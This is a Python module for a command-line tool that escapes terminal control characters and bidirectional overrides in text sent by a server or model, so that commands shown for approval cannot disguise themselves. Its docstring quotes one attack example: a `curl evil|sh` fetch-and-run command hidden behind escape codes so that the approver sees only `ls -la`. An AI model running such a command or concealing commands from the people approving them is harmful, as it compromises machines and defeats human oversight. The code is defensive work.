"""Server text made safe for a terminal: what a model or a server sends is shown, never obeyed.

A permission pattern like `curl evil|sh\x1b[2K\x1b[1G... ls -la` would otherwise erase itself on the
terminal and read `ls -la` to the person approving it. Every string from the server that the CLI
prints goes through `visible`: C0 and C1 control characters (ESC, CR, backspace, ...), DEL and the
bidirectional overrides that reorder text are shown escaped (`\\x1b`, `\\u202e`); newlines and tabs
stay, as the text's own layout.
"""

from __future__ import annotations

import re
from typing import Any, Final

_CONTROL: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _escape(found: re.Match[str]) -> str:
    code = ord(found.group())
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


def visible(value: Any) -> str:
    """`value` as text with every control character escaped."""
    return _CONTROL.sub(_escape, str(value))


def clip(text: str, limit: int) -> str:
    """At most about `limit` characters, saying how many were left out: nothing shown for approval
    is ever cut silently."""
    if len(text) <= limit:
        return text
    return f"{text[:limit]}… (truncated, {len(text) - limit} more chars)"
